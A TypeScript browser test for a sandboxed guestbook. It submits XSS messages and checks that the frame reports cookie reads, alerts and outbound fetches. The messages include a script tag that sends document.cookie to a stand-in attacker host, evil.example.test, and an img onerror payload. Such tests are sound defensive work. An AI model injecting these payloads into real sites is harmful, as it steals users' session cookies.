import assert from "node:assert/strict";
import { browserTest } from "./harness.ts";

/** What the frame told the page around it. */
interface Told {
  readonly origin: string;
  readonly what: string;
  readonly detail: string;
}

browserTest("the guestbook runs a message in its sandbox and tells what it took and tried to send", async (visit) => {
  const { house, page } = visit;
  const messages = [
    "<img src=x onerror=alert(document.cookie)>",
    "<script>fetch('https://evil.example.test/?c=' + document.cookie)</script>",
    "<script>try { localStorage.x = 1 } catch (error) { alert(error.name) }</script>",
  ];
  for (const message of messages) {
    const init = { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ message }) };
    const answer = await (await fetch(`${house.url}/api/data`, init)).json();
    assert.equal(answer.effect.harmful, true, message);
  }
  const told = await framed(page, "/api/data/page");
  assert.ok(told.every(({ origin }) => origin === "null"));
  const said = (what: string, detail: RegExp) => told.some((each) => each.what === what && detail.test(each.detail));
  assert.ok(said("cookie-read", /demo_session=/), JSON.stringify(told));
  assert.ok(said("ran", /^alert\(demo_session=/), JSON.stringify(told));
  assert.ok(said("ran", /^alert\(SecurityError\)/), JSON.stringify(told));
  assert.ok(said("sent", /^fetch to https:\/\/evil\.example\.test/), JSON.stringify(told));
  assert.deepEqual(await framed(page, "/api/safe/data/page"), []);
}, { env: { GLASSHOUSE_MODE: "observe" } });

/** Shows a path in a sandboxed frame of our page until it has loaded, and returns what it told. */
function framed(
  page: { evaluate<T>(run: (path: string) => Promise<T>, path: string): Promise<T> },
  path: string,
): Promise<Told[]> {
  return page.evaluate((path) =>
    new Promise<Told[]>((resolve) => {
      const told: Told[] = [];
      addEventListener("message", ({ origin, data }) => {
        if (data?.glasshouse === "guestbook") told.push({ origin, what: data.what, detail: data.detail });
      });
      const frame = document.createElement("iframe");
      frame.sandbox.add("allow-scripts");
      frame.src = path;
      // The messages of the frame are delivered before its load event or right after it.
      frame.addEventListener("load", () => setTimeout(() => resolve(told), 500));
      document.body.append(frame);
    }), path);
}
